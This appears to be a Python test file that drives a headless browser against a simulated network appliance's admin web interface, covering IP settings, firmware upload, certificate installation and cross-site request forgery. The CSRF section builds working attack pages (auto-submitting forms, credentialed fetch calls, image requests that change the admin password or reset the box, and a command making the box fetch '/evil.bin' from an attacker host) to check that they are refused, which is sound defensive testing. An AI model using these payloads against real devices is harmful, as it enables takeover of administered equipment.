"""The admin UI in a real browser: Debian's headless Chromium, driven by selenium.

Logs in (the credentials in the URL answer the Digest challenge, as a user typing them into
the browser's login box does), sets a static address on Configuration/IP, saves, resets,
and the console then shows the new configuration; then uploads a second firmware through
Maintenance/Upload's form with "reset afterwards", and General/Info shows it running.
Screenshots of General/Info are saved as test artifacts in test-artifacts/ (or
$IPVA_ARTIFACTS).
"""

from __future__ import annotations

import os
import shutil
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from httpbox import PASSWORD, USER, HostedHttpBox, firmware_image, with_boot_disk

from appliance.config import Config

CHROMIUM = shutil.which("chromium")
CHROMEDRIVER = shutil.which("chromedriver")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None or CHROMEDRIVER is None,
    reason="Debian's chromium and chromium-driver are not installed (./dev installs them)",
)
ARTIFACTS = Path(os.environ.get("IPVA_ARTIFACTS", Path(__file__).parents[2] / "test-artifacts"))

# a box with no saved config runs (and shows) the factory settings: ETH1 192.168.1.1/24
FACTORY = "\n".join(Config.factory_settings().lines())


def wait_text(driver, locator: str, text: str, by: str = "id") -> None:  # type: ignore[no-untyped-def]
    """Wait until the element shows `text`. After a click the old page may still be there,
    or go while it is read: selenium reports that as stale or missing, and Chromium (its
    inspector) as "does not belong to the document" (an unknown error); all three mean
    "not yet"."""
    from selenium.common.exceptions import (
        NoSuchElementException,
        StaleElementReferenceException,
        WebDriverException,
    )
    from selenium.webdriver.support.ui import WebDriverWait

    def shown(drv) -> bool:  # type: ignore[no-untyped-def]
        try:
            return text in drv.find_element(by, locator).text
        except (StaleElementReferenceException, NoSuchElementException):
            return False
        except WebDriverException as e:
            if "does not belong to the document" in (e.msg or ""):
                return False
            raise

    WebDriverWait(driver, 30).until(shown)


@pytest.fixture
def browser() -> Iterator[object]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    profile = tempfile.mkdtemp(prefix="ipva-chromium-")
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for arg in (
        "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--no-first-run", "--disable-extensions", f"--user-data-dir={profile}",
        "--window-size=1200,900", "--ignore-certificate-errors",
    ):  # fmt: skip
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
    driver.set_page_load_timeout(60)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture
def box(tmp_path: Path) -> Iterator[HostedHttpBox]:
    b = HostedHttpBox(with_boot_disk(tmp_path / "box"))
    yield b
    b.close()


@pytest.mark.timeout(300)
def test_browser_sets_a_static_address_writes_and_resets(
    browser, box: HostedHttpBox, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    d = browser

    host = box.http_url.split("://")[1]
    # General/Info: no login; the screenshot is the artifact
    d.get(f"{box.http_url}/general/info")
    assert "16r1sr1 IPVA[" in d.find_element(By.ID, "info").text
    assert "factory default" in d.find_element(By.ID, "factory-password").text
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shot = ARTIFACTS / "general-info.png"
    assert d.save_screenshot(str(shot)) and shot.stat().st_size > 10_000

    d.get(f"http://{USER}:{PASSWORD}@{host}/configuration/ip")  # the login
    assert d.find_element(By.TAG_NAME, "h1").text == "Configuration / IP"
    Select(d.find_element(By.ID, "dhcp")).select_by_value("off")
    for field, value in (
        ("eth0_addr", "192.168.0.10"),
        ("eth0_mask", "255.255.255.0"),
        ("gateway", "192.168.0.1"),
    ):
        d.find_element(By.ID, field).clear()
        d.find_element(By.ID, field).send_keys(value)
    d.find_element(By.ID, "apply").click()
    wait_text(d, "main", "needs reset", By.TAG_NAME)
    d.find_element(By.ID, "write").click()
    # ETH0, the route, DHCP0, and ETH1's factory setting (192.168.1.1/24)
    wait_text(d, "main", "config written to flash (4 objects)", By.TAG_NAME)

    before = box.runtime.box
    d.get(f"{box.http_url}/reset")  # same origin: the browser reuses the login
    d.find_element(By.ID, "reset").click()
    wait_text(d, "resetting", "restarting with the saved configuration")
    deadline = time.monotonic() + 20
    while box.runtime.box is before and time.monotonic() < deadline:
        time.sleep(0.1)
    assert box.runtime.box is not before, "the box did not reset"
    assert box.console_line("config show") == (
        "config change IP0 ETH0 /addr 192.168.0.10 /mask 255.255.255.0\n"
        "config change IP0 ETH1 /addr 192.168.1.1 /mask 255.255.255.0\n"
        "config change IP0 RT0 /gateway 192.168.0.1\n"
        "config change DHCP0 /mode off"
    )
    d.get(f"{box.http_url}/general/info")
    d.save_screenshot(str(ARTIFACTS / "general-info-after-reset.png"))

    # a firmware through the real form (the browser streams the file as multipart)
    image = tmp_path / "ipva.bin"
    image.write_bytes(firmware_image("16r1sr2", 1601002, payload_size=2 << 20))
    before = box.runtime.box
    host = box.http_url.split("://")[1]  # a reset here gives new ports: log in again
    d.get(f"http://{USER}:{PASSWORD}@{host}/maintenance/upload")
    d.find_element(By.ID, "firmware-file").send_keys(str(image))
    d.find_element(By.ID, "firmware-reset").click()
    d.find_element(By.ID, "upload-firmware").click()
    wait_text(d, "result", "firmware 16r1sr2 build 1601002 written to slot B (IPVA2.BIN)")
    assert "restarts now" in d.find_element(By.ID, "resetting").text
    deadline = time.monotonic() + 20
    while box.runtime.box in (before, None) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert box.runtime.box not in (before, None), "the box did not reset"
    d.get(f"{box.http_url}/general/info")
    row = d.find_element(By.ID, "slot-B").text
    assert "B (running)" in row and "16r1sr2" in row and "1601002" in row, row
    assert "16r1sr1" in d.find_element(By.ID, "slot-A").text
    d.save_screenshot(str(ARTIFACTS / "general-info-new-firmware.png"))


@pytest.mark.timeout(300)
def test_browser_makes_a_request_and_installs_the_signed_chain(
    browser, box: HostedHttpBox, tmp_path: Path
) -> None:
    """Administration/Certificates in Chromium: a request made, shown, signed by a real
    openssl CA, the chain uploaded through the file field; a bad file refused."""
    from selenium.webdriver.common.by import By
    from test_certificates import verified

    from tests.x509ca import TestCA

    d = browser
    ca = TestCA(tmp_path / "ca")

    host = box.http_url.split("://")[1]
    page = f"http://{host}/administration/certificates"
    d.get(f"http://{USER}:{PASSWORD}@{host}/administration/certificates")  # the login
    assert d.find_element(By.TAG_NAME, "h1").text == "Administration / Certificates"
    assert "(self-signed)" in d.find_element(By.ID, "issuer").text
    assert "IP:127.0.0.1" in d.find_element(By.ID, "san").text
    d.find_element(By.ID, "san-dns").send_keys("ipva.example.com")
    d.find_element(By.ID, "make-request").click()
    wait_text(d, "main", "making a new key", By.TAG_NAME)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:  # made in the background: the page is reloaded
        d.get(page)
        if d.find_elements(By.ID, "request"):
            break
        time.sleep(0.3)
    csr = d.find_element(By.ID, "request").text.encode() + b"\n"
    assert csr.startswith(b"-----BEGIN CERTIFICATE REQUEST-----")
    chain = tmp_path / "chain.pem"
    chain.write_bytes(ca.chain(ca.sign(csr)))
    garbage = tmp_path / "garbage.pem"
    garbage.write_bytes(b"not a certificate")
    d.find_element(By.ID, "chain-file").send_keys(str(garbage))
    d.find_element(By.ID, "install").click()
    wait_text(d, "refused", "no certificate in it")
    assert "(self-signed)" in d.find_element(By.ID, "issuer").text  # unchanged
    d.find_element(By.ID, "chain-file").send_keys(str(chain))
    d.find_element(By.ID, "install").click()
    wait_text(d, "main", "certificate installed from the web admin", By.TAG_NAME)
    assert "ipva test issuing CA" in d.find_element(By.ID, "issuer").text
    assert "DNS:ipva.example.com" in d.find_element(By.ID, "san").text
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    d.save_screenshot(str(ARTIFACTS / "administration-certificates.png"))
    verified(box.https_url, ca)  # HTTPS serves it, no restart


# -- CSRF: another site's page, opened by the logged-in admin, tries every form ----------


class _Attacker:
    """A web site on 127.0.0.1 or 127.0.0.2 serving the attack pages; it logs every
    request it gets (the box fetching /evil.bin would show here)."""

    def __init__(self, host: str, pages: dict[str, str]) -> None:
        import http.server
        import threading

        self.pages = pages
        self.requests: list[str] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                attacker.requests.append(self.path)
                body = attacker.pages.get(self.path.lstrip("/"), "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
        self.url = f"http://{host}:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def attack_pages(target: str, attacker: str) -> dict[str, str]:
    """Each CSRF form of issue 25 against one base URL of the box."""
    from html import escape

    def form(action: str, fields: dict[str, str]) -> str:
        inputs = "".join(f'<input name="{k}" value="{v}">' for k, v in fields.items())
        return (f'<form method="post" action="{target}{action}">{inputs}</form>'
                "<script>document.forms[0].submit()</script>")  # fmt: skip

    ip = {"action": "apply", "dhcp": "off", "dhcp_if": "ETH0", "eth0_addr": "10.6.6.6",
          "eth0_mask": "255.0.0.0"}  # fmt: skip
    pwd = "/!config%20change%20ADMIN0%20/pwd%20hacked"
    return {
        "img.html": "".join(
            f'<img src="{target}{p}">'
            for p in (pwd, "/!config%20activate", "/!config%20write", "/!reset")
        ),
        "navigate.html": (
            '<meta name="referrer" content="no-referrer"><script>location.href='
            f'"{target}/!mod%20cmd%20UP0%20prot%20{attacker}/evil.bin%20ser%2042"</script>'
        ),
        "fetch.html": (
            "<script>for (const u of ["
            f'"{target}{pwd}", "{target}/!config%20change%20SYS0%20/name%20fetched"])'
            ' fetch(u, {mode: "no-cors", credentials: "include"});'
            f'fetch("{target}/ipva.bin", {{method: "POST", mode: "no-cors",'
            ' credentials: "include", body: "x"});</script>'
        ),
        "form-ip.html": form("/configuration/ip", ip),
        "form-admin.html": form(
            "/administration/admin", {"old": "ipva", "new": "Hacked-1", "again": "Hacked-1"}
        ),
        "form-reset.html": form("/reset", {}),
        "sandboxed.html": (  # Origin: null
            '<iframe sandbox="allow-forms allow-scripts" srcdoc="'
            + escape(form("/configuration/ip", ip))
            + '"></iframe>'
        ),
    }


@pytest.mark.timeout(400)
def test_another_sites_pages_cannot_drive_the_logged_in_admins_box(
    browser, box: HostedHttpBox
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    d = browser
    http_host = box.http_url.split("://")[1]
    https_host = box.https_url.split("://")[1]
    # the admin logs in over HTTP and HTTPS; later requests reuse the login by themselves
    d.get(f"http://{USER}:{PASSWORD}@{http_host}/configuration/ip")
    d.get(f"https://{USER}:{PASSWORD}@{https_host}/configuration/ip")
    for base in (box.http_url, box.https_url):
        d.get(f"{base}/administration/admin")
        assert d.find_element(By.TAG_NAME, "h1").text == "Administration / Admin", base

    before = box.runtime.box
    cross = _Attacker("127.0.0.2", {})  # another name (cross-site)
    same = _Attacker("127.0.0.1", {})  # another port of the box's own name (same-site)
    try:
        for site in (cross, same):
            for target in (box.http_url, box.https_url):
                site.pages = attack_pages(target, site.url)
                for page in site.pages:
                    print("attack", site.url, target, page, flush=True)
                    d.get(f"{site.url}/{page}")
                    time.sleep(1.0)  # the page's requests go out
    finally:
        cross.close()
        same.close()
    assert box.runtime.box is before, "an attack reset the box"
    assert box.console_line("config show") == FACTORY  # nothing changed, nothing even running
    assert box.console_line("config show saved") == FACTORY
    assert not any("evil.bin" in p for p in cross.requests + same.requests)
    refused = [ln for ln in box.console.text().splitlines() if "refused" in ln]
    assert len(refused) >= 8, "the attacks did not reach the box with the admin's login"

    # the admin's own pages still work, over HTTP and HTTPS
    d.get(f"{box.http_url}/configuration/ip")
    d.find_element(By.ID, "eth0_addr").clear()
    d.find_element(By.ID, "eth0_addr").send_keys("192.168.7.10")
    d.find_element(By.ID, "eth0_mask").clear()
    d.find_element(By.ID, "eth0_mask").send_keys("255.255.255.0")
    d.find_element(By.ID, "apply").click()
    WebDriverWait(d, 30).until(lambda drv: "needs reset" in drv.page_source)
    assert "192.168.7.10" in box.console_line("config show")
    d.get(f"{box.https_url}/administration/admin")
    for field, value in (("old", PASSWORD), ("new", "S3cure-pw"), ("again", "S3cure-pw")):
        d.find_element(By.ID, field).send_keys(value)
    d.find_element(By.ID, "change").click()
    WebDriverWait(d, 30).until(lambda drv: 'id="done"' in drv.page_source)
